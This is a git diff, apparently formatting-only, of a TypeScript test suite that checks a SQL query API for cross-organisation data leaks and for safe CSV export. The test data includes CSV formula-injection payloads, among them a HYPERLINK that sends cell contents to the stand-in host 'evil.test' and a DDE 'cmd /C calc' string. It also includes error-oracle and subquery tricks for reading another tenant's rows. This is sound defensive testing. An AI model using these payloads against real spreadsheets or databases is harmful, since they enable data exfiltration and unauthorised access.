@@ -9,7 +9,16 @@ import os from "node:os";
 import path from "node:path";
 import { after, before, describe, test } from "node:test";
 import { insertSpans } from "@promptmetrics/clickhouse";
-import { invitedMember, openTestStore, signedUp, startApi, type Client, type Reply, type TestApi, type TestStore } from "./accounts-harness.ts";
+import {
+  invitedMember,
+  openTestStore,
+  signedUp,
+  startApi,
+  type Client,
+  type Reply,
+  type TestApi,
+  type TestStore,
+} from "./accounts-harness.ts";
 import { llmRun } from "./runs-fixtures.ts";
 
 let db: TestStore;
@@ -49,7 +58,9 @@ before(async () => {
   await bob.post("/api/tokens", { name: "cli" });
 
   const runsA = [1, 2, 3].map((i) => llmRun(pA, { input_text: `alpha ${i}`, user_id: `a-user-${i}` }));
-  const runsB = [1, 2].map((i) => llmRun(pB, { input_text: `${SECRET} prompt ${i}`, output_text: `${SECRET} answer`, user_id: `${SECRET}-user` }));
+  const runsB = [1, 2].map((i) =>
+    llmRun(pB, { input_text: `${SECRET} prompt ${i}`, output_text: `${SECRET} answer`, user_id: `${SECRET}-user` }),
+  );
   await insertSpans(db.store, { rows: [...runsA, llmRun(pA2, { input_text: "second project" }), ...runsB] });
   await alice.post(`/api/runs/${runsA[0]!.trace_id}-${runsA[0]!.span_id}/rate`, { rating: 4 });
   await bob.post(`/api/runs/${runsB[0]!.trace_id}-${runsB[0]!.span_id}/feedback`, { text: `${SECRET} feedback`, success: false });
@@ -64,12 +75,16 @@ const sql = (client: Client, body: Record<string, unknown>) => client.post("/api
 /** Nothing of org B, and no password hash or key hash, in what the caller got back. */
 function assertNoLeak(reply: Reply, what: string): void {
   const text = JSON.stringify(reply.body);
-  for (const needle of [SECRET, pB, orgB, bobUserId, "bob@example.com", "scrypt$"]) assert.ok(!text.includes(needle), `${what} leaked ${needle}: ${text.slice(0, 400)}`);
+  for (const needle of [SECRET, pB, orgB, bobUserId, "bob@example.com", "scrypt$"])
+    assert.ok(!text.includes(needle), `${what} leaked ${needle}: ${text.slice(0, 400)}`);
 }
 
 describe("who may query", () => {
   test("an owner queries every project of the org, and only those", async () => {
-    const reply = await sql(alice, { orgId: orgA, query: "SELECT project_id, count() AS runs FROM llm_runs GROUP BY project_id ORDER BY runs DESC" });
+    const reply = await sql(alice, {
+      orgId: orgA,
+      query: "SELECT project_id, count() AS runs FROM llm_runs GROUP BY project_id ORDER BY runs DESC",
+    });
     assert.equal(reply.status, 200, JSON.stringify(reply.body));
     assert.deepEqual(reply.body.columns, [
       { name: "project_id", type: "LowCardinality(String)" },
@@ -126,7 +141,11 @@ describe("results", () => {
     const res = await fetch(`${api.url}/api/sql`, {
       method: "POST",
       headers: { "content-type": "application/json", origin: api.url, cookie: [...alice.cookies].map(([k, v]) => `${k}=${v}`).join("; ") },
-      body: JSON.stringify({ orgId: orgA, format: "csv", query: "SELECT 'a,b' AS text, 'say \"hi\"' AS quoted, 'x\ny' AS lines, NULL AS nothing, [1, 2] AS list" }),
+      body: JSON.stringify({
+        orgId: orgA,
+        format: "csv",
+        query: "SELECT 'a,b' AS text, 'say \"hi\"' AS quoted, 'x\ny' AS lines, NULL AS nothing, [1, 2] AS list",
+      }),
     });
     assert.equal(res.status, 200);
     assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
@@ -141,11 +160,15 @@ describe("results", () => {
       body: JSON.stringify({
         orgId: orgA,
         format: "csv",
-        query: "SELECT '=HYPERLINK(\"http://evil.test/?\"&A2,\"x\")' AS link, '+cmd|'' /C calc''!A0' AS cmd, '@SUM(A1)' AS at, toDecimal64(-1.5, 2) AS cost",
+        query:
+          "SELECT '=HYPERLINK(\"http://evil.test/?\"&A2,\"x\")' AS link, '+cmd|'' /C calc''!A0' AS cmd, '@SUM(A1)' AS at, toDecimal64(-1.5, 2) AS cost",
       }),
     });
     assert.equal(res.status, 200);
-    assert.equal(await res.text(), `link,cmd,at,cost\r\n"'=HYPERLINK(""http://evil.test/?""&A2,""x"")","'+cmd|' /C calc'!A0","'@SUM(A1)",-1.5\r\n`);
+    assert.equal(
+      await res.text(),
+      `link,cmd,at,cost\r\n"'=HYPERLINK(""http://evil.test/?""&A2,""x"")","'+cmd|' /C calc'!A0","'@SUM(A1)",-1.5\r\n`,
+    );
   });
 
   test("more rows than the cap come back cut, and say so", async () => {
@@ -171,8 +194,17 @@ describe("results", () => {
   test("the scoped tables: feedback, rollups and projects hold only the caller's projects", async () => {
     const feedback = await sql(alice, { orgId: orgA, query: "SELECT project_id, rating, comment FROM feedback" });
     assert.deepEqual(feedback.body.rows, [[pA, 4, ""]]);
-    const rollup = await sql(alice, { orgId: orgA, query: "SELECT project_id, sum(requests) FROM rollup_model_hourly GROUP BY project_id ORDER BY project_id" });
-    assert.deepEqual(rollup.body.rows, [[pA, 3], [pA2, 1]].sort((x, y) => String(x[0]).localeCompare(String(y[0]))));
+    const rollup = await sql(alice, {
+      orgId: orgA,
+      query: "SELECT project_id, sum(requests) FROM rollup_model_hourly GROUP BY project_id ORDER BY project_id",
+    });
+    assert.deepEqual(
+      rollup.body.rows,
+      [
+        [pA, 3],
+        [pA2, 1],
+      ].sort((x, y) => String(x[0]).localeCompare(String(y[0]))),
+    );
     const users = await sql(alice, { orgId: orgA, query: "SELECT count(), uniqExact(user_id) FROM rollup_user_hourly" });
     assert.deepEqual(users.body.rows, [[4, 4]]);
     const projects = await sql(alice, { orgId: orgA, query: "SELECT name FROM projects ORDER BY name" });
@@ -245,16 +277,28 @@ describe("another org's data cannot be reached", () => {
   // Queries that run: each must see org A's rows only, whatever tricks it plays.
   const scoped: Array<[string, string, unknown[][]]> = [
     // Fails with the text in its message on any row of org B; succeeds on every row of org A.
-    ["an error message as an oracle", `SELECT count() FROM spans WHERE toUInt8(if(input_text LIKE '${SECRET}%', input_text, '1')) = 1`, [[4]]],
+    [
+      "an error message as an oracle",
+      `SELECT count() FROM spans WHERE toUInt8(if(input_text LIKE '${SECRET}%', input_text, '1')) = 1`,
+      [[4]],
+    ],
     ["throwIf as an oracle", `SELECT count() FROM llm_runs WHERE throwIf(input_text LIKE '%${SECRET}%') = 0`, [[4]]],
     ["throwIf on feedback", `SELECT count() FROM feedback WHERE throwIf(comment LIKE '%${SECRET}%') = 0`, [[1]]],
     ["a CTE re-binding spans to itself", "WITH spans AS (SELECT * FROM spans) SELECT count() FROM spans", [[4]]],
     ["a recursive CTE named like the table", "WITH RECURSIVE llm_runs AS (SELECT * FROM llm_runs) SELECT count() FROM llm_runs", [[4]]],
-    ["UNION ALL of the scoped tables", "SELECT count() FROM (SELECT project_id FROM spans UNION ALL SELECT project_id FROM feedback UNION ALL SELECT project_id FROM llm_runs)", [[9]]],
+    [
+      "UNION ALL of the scoped tables",
+      "SELECT count() FROM (SELECT project_id FROM spans UNION ALL SELECT project_id FROM feedback UNION ALL SELECT project_id FROM llm_runs)",
+      [[9]],
+    ],
     ["a self JOIN", "SELECT count() FROM llm_runs AS a JOIN spans AS b ON a.span_id = b.span_id", [[4]]],
     ["a scalar subquery", `SELECT (SELECT count() FROM llm_runs WHERE input_text LIKE '%${SECRET}%')`, [[0]]],
     ["EXISTS", `SELECT EXISTS (SELECT 1 FROM spans WHERE input_text LIKE '%${SECRET}%')`, [[0]]],
-    ["IN a subquery", `SELECT count() FROM llm_runs WHERE project_id IN (SELECT project_id FROM spans WHERE input_text LIKE '%${SECRET}%')`, [[0]]],
+    [
+      "IN a subquery",
+      `SELECT count() FROM llm_runs WHERE project_id IN (SELECT project_id FROM spans WHERE input_text LIKE '%${SECRET}%')`,
+      [[0]],
+    ],
     ["a trivial count", "SELECT count() FROM llm_runs", [[4]]],
     ["min/max over the sort key", "SELECT count(), uniqExact(project_id) FROM spans", [[4, 2]]],
     ["an alias named like a hidden table", "SELECT uniq(user_id) AS users FROM llm_runs ORDER BY users", [[4]]],
